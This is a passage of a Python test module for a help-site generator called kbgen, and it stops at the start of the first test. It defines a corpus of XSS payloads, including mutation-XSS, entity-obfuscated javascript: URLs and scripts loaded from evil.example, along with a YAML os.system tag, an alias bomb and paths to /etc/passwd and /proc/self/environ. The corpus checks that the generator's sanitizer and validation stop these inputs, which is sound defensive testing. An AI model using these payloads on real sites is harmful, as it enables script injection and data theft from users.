"""A hostile contributor against both sites: no seller text runs script, nothing from outside the project is published.

The story. A shop takes content through pull requests from staff and outsourced
translators; a reviewer reads YAML, not HTML. One of them is hostile and knows
the tricks: raw HTML hidden where a pattern check does not look, `javascript:`
spelled with entities, tabs and control characters, mutation XSS through
`<noscript>`/`<math>`/`<svg>`, comments and attribute lists, a contact address
that closes kbgen's own Markdown link, front matter whose YAML escapes spell a
`</script>`, symlinks in docs/ to files outside the checkout, and inputs shaped
to make the build take hours.

What this module shows (issue 11), in the order a reviewer would ask:

1. The corpus (`MARKDOWN_PAYLOADS`, `ADDRESS_PAYLOADS`, `DOCS_FILE_PAYLOADS`,
   `EXTENSION_PAYLOADS`), every payload in EVERY seller field that reaches a page
   (`TEXT_SLOTS`: FAQ, categories, shop, contacts of every channel, warranty,
   extensions, procedures, hand-written pages and their front matter).
2. `kbgen validate` answers every payload with exit 0, or exit 1 and only
   `FILE:LINE:COLUMN: message` lines (never a traceback), and `kbgen build`
   fails exactly when validate fails: a rejected payload stops the build with the
   same lines and writes nothing; all accepted placements together build.
3. Safety does not rest on the input checks: with `find_problems` switched off
   everywhere, the whole corpus is built once and every page of both sites is
   opened in Chromium (plus the widget demo, its frame, the search boxes, and the
   widget on a page of another origin): no dialog, no `window.__pwned`, no `on*`
   attribute, no `javascript:`/`vbscript:`/`data:` URL, no `<base>`, no foreign
   `<iframe>`/`<object>`/`<embed>`/`<form>`; the same checks on the HTML files
   themselves; every page carries a Content-Security-Policy without
   'unsafe-inline' that still allows kbgen's own inline scripts; and with a
   sanitizer that lets a `<script>` through (simulated), that policy still runs
   nothing. Links and fragments a buyer may be sent (`?lang=`, `?q=`, `#`) run
   nothing either.
4. docs/ stays inside the project: symlinks (absolute, relative, to
   /proc/self/environ, a symlinked language folder) are refused at FILE:LINE by
   validate and build, and a marker planted outside never reaches a built file.
5. Front matter: only documented keys, as strings; `title: [1, 2]` and an alias
   bomb are refused at FILE:LINE, quickly, without a traceback.
6. Linear time: 1 MB answers of the pathological shapes validate (and one builds)
   in seconds.
7. Hypothesis: random Markdown from a grammar of risky pieces, through
   `render_markdown`, never yields a tag, attribute or URL scheme outside the
   sanitizer's allowlist.
8. The small ones: ids with a final newline, `--out` safety, no widget globals,
   a shop name holding `<!--<script>`, `kbgen serve` and the Host header / `/%00`.

Builds are few and shared (module scope): one with the input checks on (every
accepted placement), one with them off (every placement validation does not
reject for another reason), one 1 MB build and one small build with a leaky
sanitizer. Validation runs per payload, in-process (cheap); rejected payloads
cost a build that stops at validation.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import html
import html.parser
import http.client
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from conftest import PROJECT, search_data, write_tree
from generator.cli import main as kbgen_main

KBGEN = [sys.executable, "-m", "generator"]
LANGUAGES = ["en", "ru"]  # the second language shows every seller text as a fallback (another wrapper)
CHANNELS = ("chat", "email", "phone", "social", "form")

# What a payload does when it runs: both are observable from the test (a window flag, a dialog).
PWN = "window.__pwned=(window.__pwned||0)+1"
ALERT = "alert(1)"
# Words that may appear in an executable <script> only if a payload got into one.
SCRIPT_MARKERS = ("__pwned", "alert(1)", "msgbox(", "evil.example")
# Planted in a file outside the project: it must never appear in anything built.
OUTSIDE_MARKER = "OUTSIDEQZX-never-publish-me"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


def _payloads(*pairs: tuple[str, str]) -> list[Payload]:
    names = [name for name, _ in pairs]
    assert len(names) == len(set(names)), "payload names must be unique"
    return [Payload(name, text) for name, text in pairs]


# --- 1. the corpus --------------------------------------------------------------------------------
#
# MARKDOWN_PAYLOADS go into every text field a seller writes (plain texts and Markdown alike);
# each would run PWN or alert(1) if it reached a page as markup.

MARKDOWN_PAYLOADS = _payloads(
    # -- the tricks the issue reports against the pattern checks of model/markdown_rules.py --
    # A fence is not an enabled extension: the "code" around <script> was raw HTML.
    ("fenced-script", f"```\n<script>{PWN}</script>\n```"),
    ("tilde-fenced-script", f"~~~\n<script>{ALERT}</script>\n~~~"),
    # The check saw a code span from the escaped backtick; Markdown saw raw HTML.
    ("escaped-backtick-img", f"\\`<img src=x onerror={PWN}>`"),
    # A code span cannot cross a paragraph; the check's pattern could.
    ("code-span-across-paragraphs", f"`a\n\n<img src=x onerror={PWN}>\n\nb`"),
    # A `<` inside an attribute value hid the tag from `[^<>]*`.
    ("lt-inside-attribute", f'<img src="<" onerror={PWN}>'),
    # A namespaced tag name (`x:y`) did not match the tag pattern.
    ("namespaced-tag", f"<x:y autofocus tabindex=0 onfocus={PWN}>z</x:y>"),
    # A reference definition whose URL is on the next line.
    ("reference-url-next-line", f"[click][r]\n\n[r]:\n    javascript:{PWN}"),
    # A newline inside a link target: browsers drop it, and the scheme is javascript:.
    ("newline-in-link-target", f"[click](java\nscript:{PWN})"),
    # kbgen's own HTML-block markers, smuggled inside a fence the check blanks out.
    ("kbgen-block-markers",
     f"kbgenhtmlblock0x\n\n~~~\n<!-- kbgen:html-blocks -->\n<!-- kbgen:html-block -->\n<img src=x onerror={PWN}>\n~~~"),
    # -- attribute lists (attr_list): any attribute on any element --
    ("attr-list-image-onerror", f"![x](x){{onerror={PWN}}}"),
    ("attr-list-link-onclick", f"[x](https://a.example/){{onclick={PWN}}}"),
    ("attr-list-href", f'[x](https://a.example/){{: href="javascript:{PWN}" }}'),
    ("attr-list-autofocus", f"[x](https://a.example/){{: autofocus tabindex=0 onfocus={PWN} }}"),
    ("attr-list-heading", f"# Title {{: onmouseover={PWN} }}"),
    ("attr-list-paragraph", f"paragraph\n{{: onclick={PWN} }}"),
    ("attr-list-style", f'**b**{{: style="background:url(javascript:{ALERT})" }}'),
    # -- plain raw HTML --
    ("script", f"<script>{PWN}</script>"),
    ("script-src-mixed-case", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    ("img-onerror", f"<img src=x onerror={PWN}>"),
    ("svg-onload", f"<svg onload={PWN}></svg>"),
    ("details-ontoggle", f"<details open ontoggle={PWN}><summary>x</summary></details>"),
    ("input-autofocus", f"<input autofocus onfocus={PWN}>"),
    ("a-javascript", f'<a href="javascript:{PWN}">x</a>'),
    ("iframe-javascript", f'<iframe src="javascript:{PWN}"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>top.window.__pwned=1</script>"></iframe>'),
    ("object-data", f'<object data="javascript:{PWN}"></object>'),
    ("embed-src", f'<embed src="javascript:{PWN}">'),
    ("form-formaction", f'<form><button formaction="javascript:{PWN}">x</button></form>'),
    ("input-formaction", f'<input type=image src=x formaction="javascript:{PWN}">'),
    ("base-href", '<base href="//evil.example/">'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">'),
    ("link-stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
    ("style-element", f"<style>@import '//evil.example/x.css'; body{{background:url(javascript:{ALERT})}}</style>"),
    ("style-attribute", f'<p style="background:url(javascript:{ALERT})">x</p>'),
    ("closing-kbgen-wrappers", f"</div></div></li></ol></section><script>{PWN}</script>"),
    ("markdown-inside-html", f'<div markdown="1">[x](javascript:{PWN})</div>'),
    ("split-script-tag", f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    # -- mutation XSS: markup a sanitizer and a browser read differently --
    ("noscript", f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>'),
    ("math-style", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">'),
    ("math-form", f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={PWN} src>">'),
    ("svg-style", f"<svg><style><img src=x onerror={PWN}></style></svg>"),
    ("svg-xlink", f'<svg><a xlink:href="javascript:{PWN}"><text x="20" y="20">x</text></a></svg>'),
    ("svg-animate-href", f'<svg><a><animate attributeName="href" values="javascript:{PWN}"/><text x="20" y="20">x</text></a></svg>'),
    ("svg-foreign-object", f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>"),
    ("template", f"<template><img src=x onerror={PWN}></template>"),
    ("declarative-shadow-root", f'<div><template shadowrootmode="open"><img src=x onerror={PWN}></template></div>'),
    ("xmp", f'<xmp><p title="</xmp><img src=x onerror={PWN}>">'),
    ("textarea", f'<textarea><p title="</textarea><img src=x onerror={PWN}>"></textarea>'),
    ("title", f'<title><p title="</title><img src=x onerror={PWN}>">'),
    ("svg-cdata", f"<svg><![CDATA[><img src=x onerror={PWN}>]]></svg>"),
    # -- comments and other markup declarations --
    ("comment-closed-early", f"<!--><img src=x onerror={PWN}>-->"),
    ("comment-bang", f"<!--!><img src=x onerror={PWN}>-->"),
    ("comment-bang-close", f"<!-- --!><img src=x onerror={PWN}> -->"),
    ("comment-unclosed-script", "<!--<script>"),
    ("processing-instruction", f"<?xml ><img src=x onerror={PWN}>?>"),
    ("bogus-declaration", f"<!x><img src=x onerror={PWN}>"),
    # -- entities in schemes --
    ("entity-decimal", f"[x](&#106;avascript:{PWN})"),
    ("entity-hex-padded", f"[x](&#x0006A;avascript:{PWN})"),
    ("entity-colon", f"[x](javascript&colon;{PWN})"),
    ("entity-tab", f"[x](java&Tab;script:{PWN})"),
    ("entity-newline", f"[x](java&NewLine;script:{PWN})"),
    ("entity-raw-href", f'<a href="&#x6A;&#x61;vascript&#58;{PWN}">x</a>'),
    ("entity-double-encoded", f"[x](&amp;#106;avascript:{PWN})"),
    # -- whitespace and control characters inside or before schemes --
    ("tab-in-scheme", f"[x](java\tscript:{PWN})"),
    ("entity-hex-tab", f"[x](java&#x09;script:{PWN})"),
    ("control-before-scheme", f"[x](\x01javascript:{PWN})"),
    ("space-before-scheme", f"[x](< javascript:{PWN}>)"),
    ("uppercase-scheme", f"[x](JaVaScRiPt:{PWN})"),
    # -- other schemes and destinations --
    ("vbscript", "[x](vbscript:msgbox(1))"),
    ("data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data-svg-image", "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)"),
    ("file-scheme", "![x](file:///etc/passwd)"),
    ("reference-javascript", f"[x][r]\n\n[r]: javascript:{PWN}"),
    ("reference-angle", f"[x][r]\n\n[r]: <javascript:{PWN}>"),
    ("angle-destination", f"[x](<javascript:{PWN}>)"),
    ("autolink-javascript", f"<javascript:{PWN}>"),
    ("autolink-uppercase", "<JAVASCRIPT:alert(1)>"),
    ("image-javascript", f"![x](javascript:{PWN})"),
    ("protocol-relative", "[x](//evil.example/) ![y](//evil.example/y.png)"),
    ("outside-paths", "![x](../../../../../outside/secret.md) [y](../../../../../outside/secret.md) ![z](/proc/self/environ)"),
    # -- breaking out of the attributes Markdown writes --
    ("link-title-quote", f'[x](https://a.example/ "a" onmouseover="{PWN}")'),
    ("image-alt-quote", f'![a" onerror="{PWN}](x)'),
    ("link-url-quote", f'[x](https://a.example/"onmouseover="{PWN})'),
    # -- text that must stay text in titles, JSON, scripts and templates --
    ("jinja", "{{ config.extra }} {% include 'base.html' %} {# x #}"),
    ("script-close-in-text", f"</script><script>{PWN}</script>"),
    ("line-separators", "a\u2028b\u2029c </script><!--"),
    ("json-escape-lookalike", f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e"),
)

# The fields with one value per record that kbgen puts on a page of their own (a warranty, a
# procedure, a hand-written page): the corpus build gives each of these payloads its own record.
# (A few, one per family: each such record is a page of its own in both sites, and every page is opened.)
SINGLE_RECORD_PAYLOADS = [
    "fenced-script", "escaped-backtick-img", "lt-inside-attribute", "namespaced-tag", "reference-url-next-line",
    "noscript", "closing-kbgen-wrappers", "comment-unclosed-script",
]
# Plain one-line texts shown in titles and navigation (shop name, category titles...): in the
# corpus build such a field holds these joined, so that one value tries them all.
TITLE_PAYLOADS = [
    "comment-unclosed-script", "script-close-in-text", "img-onerror", "jinja", "line-separators",
    "attr-list-heading", "a-javascript", "link-url-quote",
]

# Contact addresses are data (a URL, an e-mail address, a phone number), not Markdown: these try to
# close kbgen's own link around them, or to be something other than what the channel says.
ADDRESS_PAYLOADS: list[tuple[str, Payload]] = [
    # The finding: close the Markdown link and add an image with an attribute list.
    ("chat", Payload("chat-closes-link", f"https://c.example/)![x](x){{onerror={PWN}}}")),
    ("chat", Payload("chat-attr-list", f"https://c.example/x{{: onclick={PWN} }}")),
    ("chat", Payload("chat-second-link", f"https://c.example/?q=](javascript:{PWN})")),
    ("chat", Payload("chat-javascript", f"javascript://c.example/%0a{PWN}")),
    ("chat", Payload("chat-newline", f"https://c.example/\n[x](javascript:{PWN})")),
    ("email", Payload("email-closes-link", f"help@c.example)![x](x){{onerror={PWN}}}")),
    ("email", Payload("email-second-link", f"mailto:help@c.example?subject=)[x](javascript:{PWN})")),
    ("email", Payload("email-attr-list", f"help@c.example{{: onclick={PWN} }}")),
    ("phone", Payload("phone-closes-link", "+1 (555) 123-4567)")),
    ("phone", Payload("phone-javascript", f"javascript:{PWN}")),
    ("social", Payload("social-closes-link", f"https://c.example/shop)[x](javascript:{PWN})")),
    ("social", Payload("social-entity", "https://c.example/&#x22;onmouseover=alert(1)")),
    ("form", Payload("form-closes-link", f"https://c.example/form)![x](x){{onerror={PWN}}}")),
    ("form", Payload("form-data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
    # site.yml `url`: written into canonical and hreflang links of every page.
    ("site-url", Payload("site-url-closes-attribute", "https://help.example/x&quot;onmouseover=kbgenUrl")),
    ("site-url", Payload("site-url-backslash", "https://help.example/x\\")),
    ("site-url", Payload("site-url-javascript", f"javascript:{PWN}")),
    ("site-url", Payload("site-url-brackets", "https://help.example/)[x](javascript:alert(1))")),
]

# Hand-written pages (docs/<lang>/<name>.md) are whole files: these put the trick in the front matter.
ALIAS_BOMB = "---\n" + "".join(
    f"{name}: &{name} [{', '.join(['*' + previous] * 9 if previous else ['x'] * 9)}]\n"
    for previous, name in zip([None, "a", "b", "c", "d", "e", "f", "g", "h"], "abcdefghi")
) + "title: Boom\n---\n\nText.\n"
DOCS_FILE_PAYLOADS = _payloads(
    # The finding: YAML escapes spell </script><script> into the JSON-LD key the theme writes raw.
    ("fm-json-ld-escapes", f'---\nkb_json_ld: "\\u003c/script\\u003e\\u003cscript\\u003e{PWN}\\u003c/script\\u003e"\n---\n\nText.\n'),
    ("fm-title-escapes", f'---\ntitle: "\\u003c/title\\u003e\\u003cscript\\u003e{PWN}\\u003c/script\\u003e"\n---\n\nText.\n'),
    ("fm-description-quote", f'---\ndescription: "\\u0022\\u003e\\u003cscript\\u003e{PWN}\\u003c/script\\u003e"\n---\n\nText.\n'),
    ("fm-template", "---\ntemplate: ../../../../../../etc/passwd\n---\n\nText.\n"),
    ("fm-alternates", f'---\nkb_alternates: [["en", "javascript:{PWN}"]]\n---\n\nText.\n'),
    ("fm-page-kind", "---\nkb_page: home\n---\n\nText.\n"),
    ("fm-python-tag", '---\ntitle: !!python/object/apply:os.system ["touch /tmp/kbgen-pwned"]\n---\n\nText.\n'),
    ("fm-env-tag", "---\ntitle: !ENV HOME\n---\n\nText.\n"),
    ("fm-list-title", "---\ntitle: [1, 2]\n---\n\nText.\n"),
    ("fm-mapping-title", "---\ntitle: {a: b}\n---\n\nText.\n"),
    ("fm-duplicate-key", "---\ntitle: One\ntitle: Two\n---\n\nText.\n"),
    ("fm-alias-bomb", ALIAS_BOMB),
    # Front matter a hurried editor leaves: none of it may end in a traceback.
    ("fm-not-a-mapping", "---\n- a\n- b\n---\n\nText.\n"),
    ("fm-unclosed", "---\ntitle: Open\n\nText, and the front matter never ends.\n"),
    ("fm-crlf", "---\r\ntitle: Windows\r\n---\r\n\r\nText.\r\n"),
    ("fm-byte-order-mark", "\ufeff---\ntitle: BOM\n---\n\nText.\n"),
    ("fm-long-title", "---\ntitle: " + "x" * 5000 + "\n---\n\nText.\n"),
    ("fm-empty", "---\n---\n\nText.\n"),
    ("fm-null-title", "---\ntitle:\n---\n\nText.\n"),
    ("fm-document-end", "---\ntitle: A\n...\n---\n\nText.\n"),
    ("fm-nested-deep", "---\ntitle: " + "[" * 5000 + "\n---\n\nText.\n"),
    ("not-utf8", b"Text \xff\xfe in Latin-1: caf\xe9\n"),
    ("nul-byte", "Text \x00 with a NUL.\n"),
    ("direction-control", "Text \u202e desrever.\n"),
    # The same smuggling of kbgen's block markers, in a page MkDocs converts itself.
    ("docs-block-markers", f"kbgenhtmlblock0x\n\n~~~\n<!-- kbgen:html-blocks -->\n<!-- kbgen:html-block -->\n<img src=x onerror={PWN}>\n~~~\n"),
)
# Front matter that must be refused, and the line of the key that is refused.
REFUSED_FRONT_MATTER = {
    "fm-json-ld-escapes": 2, "fm-template": 2, "fm-alternates": 2, "fm-page-kind": 2, "fm-python-tag": 2,
    "fm-env-tag": 2, "fm-list-title": 2, "fm-mapping-title": 2, "fm-duplicate-key": 3, "fm-alias-bomb": 2,
}

# Extension fields are ids, numbers and currency codes: anything else is an error, never a traceback.
EXTENSION_PAYLOADS = [
    ("extension id", Payload("extension-id-newline", "plus-12\n")),
    ("extension id", Payload("extension-id-markup", "<script>")),
    ("extension currency", Payload("currency-markup", "<b>USD</b>")),
    ("extension currency", Payload("currency-newline", "USD\n")),
    ("extension amount", Payload("amount-huge-exponent", "1e400")),
    ("extension amount", Payload("amount-nan", ".nan")),
    ("extension amount", Payload("amount-negative", "-5")),
    ("extension amount", Payload("amount-many-digits", "9" * 5000)),
    ("extra months", Payload("months-exponent", "1e3")),
    ("extra months", Payload("months-huge", "9" * 5000)),
]
RAW_SLOTS = {"extension amount", "extra months"}  # written into the YAML as they are (numbers)


# --- a small valid shop, with any of its seller fields replaced --------------------------------------

# Every seller field that reaches a page, by the name this module gives it, and its harmless value.
DEFAULTS: dict[str, str] = {
    "shop name": "Kettle Corner",
    "shop tagline": "Kettles and teapots since 2020",
    "category title": "Orders",
    "category description": "Tracking, changes and cancellations",
    **{f"{channel} label": f"{channel.title()} support" for channel in CHANNELS},
    **{f"{channel} hours": "Mon-Fri 9:00-18:00" for channel in CHANNELS},
    "chat address": "https://chat.example/kettle",
    "email address": "help@kettle.example",
    "phone address": "+1 555 123 4567",
    "social address": "https://social.example/kettle",
    "form address": "https://kettle.example/form",
    "faq id": "track",
    "faq question": "Where is my parcel?",
    "faq answer": "Open **My orders** and follow the tracking link.",
    "faq keyword": "tracking",
    "faq agent_note": "Check the carrier's site first.",
    "warranty title": "One-year warranty",
    "warranty applies_to": "All kettles",
    "warranty covers": "Manufacturing defects",
    "warranty excludes": "Limescale",
    "warranty claim step": "Write to us with your order number.",
    "warranty costs": "We pay shipping both ways.",
    "warranty agent_note": "Ask for a photo of the defect.",
    "extension id": "plus-12",
    "extension currency": "USD",
    "extension amount": "10",
    "extra months": "12",
    "procedure title": "Refund request",
    "procedure when": "A buyer asks for a refund.",
    "step id": "check",
    "step title": "Check the order",
    "step do": "Find the order and check its date.",
    "step say": "Hello {buyer_name}, we are checking order {order_id}.",
    "branch if": "The order is older than 30 days",
    "branch goto": "close",
    "procedure escalate": "Ask the shift lead.",
    "docs intro": "Welcome to our **help center**.",
    "docs page title": "Guide",
    "docs page description": "How to use this guide",
    "docs page body": "Some *notes* for buyers.",
}
# The fields every MARKDOWN payload goes into (ids, numbers and addresses have corpora of their own).
TEXT_SLOTS = [
    "shop name", "shop tagline", "category title", "category description",
    *(f"{channel} {part}" for channel in CHANNELS for part in ("label", "hours")),
    "faq question", "faq answer", "faq keyword", "faq agent_note",
    "warranty title", "warranty applies_to", "warranty covers", "warranty excludes", "warranty claim step",
    "warranty costs", "warranty agent_note",
    "procedure title", "procedure when", "step title", "step do", "step say", "branch if", "procedure escalate",
    "docs intro", "docs page title", "docs page description", "docs page body",
]


def as_bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def q(text: str) -> str:
    """`text` as a YAML double-quoted scalar on one line (JSON's escapes are YAML 1.2's)."""
    return json.dumps(text)


class _Lines:
    """A file written line by line, remembering which seller field is on which line."""

    def __init__(self, name: str):
        self.name = name  # as kbgen prints it: relative to the source folder
        self.lines: list[str] = []
        self.slots: dict[int, str] = {}

    def add(self, line: str, slot: str | None = None) -> None:
        self.lines.append(line)
        if slot:
            self.slots[len(self.lines)] = slot

    def text(self) -> str:
        return "\n".join(self.lines) + "\n"


@dataclass
class Tree:
    """A knowledge base as files under a root: `kb/` (the source) and `docs/` beside it."""

    files: dict[str, str | bytes]  # path under the root -> text (bytes: as they are)
    slot_lines: dict[tuple[str, int], str] = field(default_factory=dict)  # (FILE, LINE) -> field
    file_slots: dict[str, set[str]] = field(default_factory=dict)  # FILE -> the fields it holds

    def write(self, root: Path) -> Path:
        """Write the tree under `root`; returns the source folder."""
        write_tree(root, {path: as_bytes(text) for path, text in self.files.items()})
        return root / "kb"

    def slots_at(self, file: str, line: int) -> set[str]:
        """The fields a problem at FILE:LINE belongs to: its line's, else every field of the file."""
        if (file, line) in self.slot_lines:
            return {self.slot_lines[(file, line)]}
        return set(self.file_slots.get(file, set(DEFAULTS)))


def small_shop(values: dict[str, str] | None = None, *, docs_page: str | bytes | None = None) -> Tree:
    """One category with two entries, one warranty policy, one procedure, contacts of every channel,
    an intro and two hand-written pages; `values` replaces fields by name, `docs_page` adds
    `docs/en/page.md` with exactly that text."""
    v = {**DEFAULTS, **(values or {})}

    def val(slot: str) -> str:
        return v[slot] if slot in RAW_SLOTS else q(v[slot])

    site = _Lines("site.yml")
    site.add("shop:")
    site.add(f"  name: {val('shop name')}", "shop name")
    site.add(f"  tagline: {val('shop tagline')}", "shop tagline")
    site.add(f"languages: [{', '.join(LANGUAGES)}]")
    if "site url" in v:
        site.add(f"url: {q(v['site url'])}", "site url")
    site.add("categories:")
    site.add("  - id: orders")
    site.add(f"    title: {val('category title')}", "category title")
    site.add(f"    description: {val('category description')}", "category description")
    site.add("contact:")
    for channel in CHANNELS:
        site.add(f"  - id: {channel}")
        site.add(f"    channel: {channel}")
        site.add(f"    label: {val(channel + ' label')}", f"{channel} label")
        site.add(f"    address: {val(channel + ' address')}", f"{channel} address")
        site.add(f"    hours: {val(channel + ' hours')}", f"{channel} hours")
        site.add("    response_time: 2h")

    faq = _Lines("faq/orders.yml")
    faq.add("entries:")
    faq.add(f"  - id: {val('faq id')}", "faq id")
    faq.add(f"    question: {val('faq question')}", "faq question")
    faq.add(f"    answer: {val('faq answer')}", "faq answer")
    faq.add(f"    keywords: [{val('faq keyword')}]", "faq keyword")
    faq.add("    warranty: basic-12m")
    faq.add(f"    agent_note: {val('faq agent_note')}", "faq agent_note")
    faq.add("    reviewed: 2026-01-15")
    faq.add("  - id: cancel")
    faq.add("    question: How do I cancel an order?")
    faq.add("    answer: Write to us before it ships.")
    faq.add("    related: [track]")

    warranty = _Lines("warranty/basic-12m.yml")
    warranty.add(f"title: {val('warranty title')}", "warranty title")
    warranty.add(f"applies_to: {val('warranty applies_to')}", "warranty applies_to")
    warranty.add("duration_months: 12")
    warranty.add("starts_on: delivery")
    warranty.add(f"covers: [{val('warranty covers')}]", "warranty covers")
    warranty.add(f"excludes: [{val('warranty excludes')}]", "warranty excludes")
    warranty.add("claim_steps:")
    warranty.add(f"  - {val('warranty claim step')}", "warranty claim step")
    warranty.add(f"costs: {val('warranty costs')}", "warranty costs")
    warranty.add("extensions:")
    warranty.add(f"  - id: {val('extension id')}", "extension id")
    warranty.add(f"    extra_months: {val('extra months')}", "extra months")
    warranty.add("    price:")
    warranty.add(f"      amount: {val('extension amount')}", "extension amount")
    warranty.add(f"      currency: {val('extension currency')}", "extension currency")
    warranty.add(f"agent_note: {val('warranty agent_note')}", "warranty agent_note")

    procedure = _Lines("handbook/refund.yml")
    procedure.add(f"title: {val('procedure title')}", "procedure title")
    procedure.add(f"when: {val('procedure when')}", "procedure when")
    procedure.add("sla:")
    procedure.add("  first_reply: 4h")
    procedure.add("  resolve: 3d")
    procedure.add("steps:")
    procedure.add(f"  - id: {val('step id')}", "step id")
    procedure.add(f"    title: {val('step title')}", "step title")
    procedure.add(f"    do: {val('step do')}", "step do")
    procedure.add(f"    say: {val('step say')}", "step say")
    procedure.add("    faq: [track]")
    procedure.add("    branches:")
    procedure.add(f"      - if: {val('branch if')}", "branch if")
    procedure.add(f"        goto: {val('branch goto')}", "branch goto")
    procedure.add("  - id: refund")
    procedure.add("    title: Refund the order")
    procedure.add("    do: Refund it in the admin panel.")
    procedure.add("  - id: close")
    procedure.add("    title: Close the ticket")
    procedure.add("    do: Close it.")
    procedure.add(f"escalate: {val('procedure escalate')}", "procedure escalate")

    guide = _Lines("../docs/en/guide.md")
    guide.add("---")
    guide.add(f"title: {q(v['docs page title'])}", "docs page title")
    guide.add(f"description: {q(v['docs page description'])}", "docs page description")
    guide.add("---")
    guide.add("")
    guide.add("Read this first.")

    tree = Tree(files={})
    for lines in (site, faq, warranty, procedure, guide):
        path = lines.name.replace("../docs/", "docs/") if lines.name.startswith("../") else f"kb/{lines.name}"
        tree.files[path] = lines.text()
        tree.slot_lines.update({(lines.name, number): slot for number, slot in lines.slots.items()})
        tree.file_slots[lines.name] = set(lines.slots.values())
    tree.files["docs/en/intro.md"] = v["docs intro"] + "\n"
    tree.file_slots["../docs/en/intro.md"] = {"docs intro"}
    tree.files["docs/en/notes.md"] = v["docs page body"] + "\n"
    tree.file_slots["../docs/en/notes.md"] = {"docs page body"}
    if docs_page is not None:
        tree.files["docs/en/page.md"] = docs_page
        tree.file_slots["../docs/en/page.md"] = {"docs file"}
    return tree


# --- running kbgen in-process ------------------------------------------------------------------------

PROBLEM_LINE = re.compile(r"^(?P<file>[^\s:/][^:\n]*):(?P<line>\d+):(?P<column>\d+): \S.*$")
SUMMARY_LINE = re.compile(r"^kbgen: \d+ problems? found in .*$")


def run_kbgen(*args) -> tuple[int, str, str]:
    """`kbgen ARGS` in this process: (exit code, stdout, stderr); an exception is reported as a traceback."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = kbgen_main([str(arg) for arg in args])
        except Exception:  # noqa: BLE001 - the contract is: never a traceback
            import traceback

            traceback.print_exc()
            code = -1
    return code, out.getvalue(), err.getvalue()


def output_problems(code: int, out: str, err: str) -> tuple[list[tuple[str, int]], list[str]]:
    """The (FILE, LINE) of every problem printed, and every way the output breaks the contract."""
    broken: list[str] = []
    if "Traceback" in out + err or code not in (0, 1):
        broken.append(f"exit {code}, traceback or crash:\n{out}{err}")
        return [], broken
    places = []
    for line in out.splitlines():
        match = PROBLEM_LINE.match(line)
        if code == 1 and match:
            places.append((match["file"], int(match["line"])))
        elif code == 1:
            broken.append(f"not a FILE:LINE:COLUMN line: {line!r}")
    if code == 1 and not places:
        broken.append(f"exit 1 without a single FILE:LINE:COLUMN problem:\n{out}{err}")
    stray = [line for line in err.splitlines() if not SUMMARY_LINE.match(line)]
    if code == 1 and stray:
        broken.append(f"unexpected lines on stderr: {stray}")
    return places, broken


@contextlib.contextmanager
def markdown_checks_off():
    """The Markdown input checks (`markdown_rules.find_problems`) switched off wherever they are imported.

    Every module of `generator` is imported first, so that each `from ... import find_problems`
    has happened and is replaced; a forked build process inherits the replacement.
    """
    import importlib
    import pkgutil

    import generator
    from generator.model import markdown_rules

    for module in pkgutil.walk_packages(generator.__path__, "generator."):
        if module.name.endswith("__main__"):
            continue
        importlib.import_module(module.name)
    original = markdown_rules.find_problems
    with pytest.MonkeyPatch.context() as patch:
        patched = []
        for name, module in list(sys.modules.items()):
            if (name == "generator" or name.startswith("generator.")) and getattr(module, "find_problems", None) is original:
                patch.setattr(module, "find_problems", lambda markdown: [])
                patched.append(name)
        assert "generator.model.markdown_rules" in patched
        yield patched


@dataclass
class Verdict:
    """What `kbgen validate` said about one payload placed in a small shop."""

    payload: Payload
    tree: Tree
    source: Path
    code: int
    out: str
    err: str
    places: list[tuple[str, int]]
    broken: list[str]

    @property
    def rejected_slots(self) -> set[str]:
        rejected: set[str] = set()
        for file, line in self.places:
            rejected |= self.tree.slots_at(file, line)
        return rejected


@dataclass(frozen=True)
class Case:
    """One payload and the shop it is tried in."""

    kind: str  # markdown, address, docs-file, extension
    payload: Payload
    tree: Tree


def corpus_cases() -> list[Case]:
    cases = [Case("markdown", p, small_shop({slot: p.text for slot in TEXT_SLOTS})) for p in MARKDOWN_PAYLOADS]
    for channel, p in ADDRESS_PAYLOADS:
        slot = "site url" if channel == "site-url" else f"{channel} address"
        cases.append(Case("address", p, small_shop({slot: p.text})))
    cases += [Case("docs-file", p, small_shop(docs_page=p.text)) for p in DOCS_FILE_PAYLOADS]
    cases += [Case("extension", p, small_shop({slot: p.text})) for slot, p in EXTENSION_PAYLOADS]
    return cases


def validate_cases(root: Path, cases: list[Case]) -> dict[str, Verdict]:
    verdicts = {}
    for number, case in enumerate(cases):
        source = case.tree.write(root / f"{number:03d}-{case.payload.name}")
        code, out, err = run_kbgen("validate", source)
        places, broken = output_problems(code, out, err)
        verdicts[case.payload.name] = Verdict(case.payload, case.tree, source, code, out, err, places, broken)
    return verdicts


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory) -> dict[str, Verdict]:
    """`kbgen validate` on every payload, the input checks on."""
    return validate_cases(tmp_path_factory.mktemp("validate-on"), corpus_cases())


@pytest.fixture(scope="module")
def verdicts_unchecked(tmp_path_factory) -> dict[str, Verdict]:
    """The same with the Markdown input checks off: what still stops a payload is not a Markdown check."""
    with markdown_checks_off():
        return validate_cases(tmp_path_factory.mktemp("validate-off"), corpus_cases())


# --- 2. validation and build agree ----------------------------------------------------------------------


def test_the_small_shop_is_valid(tmp_path):
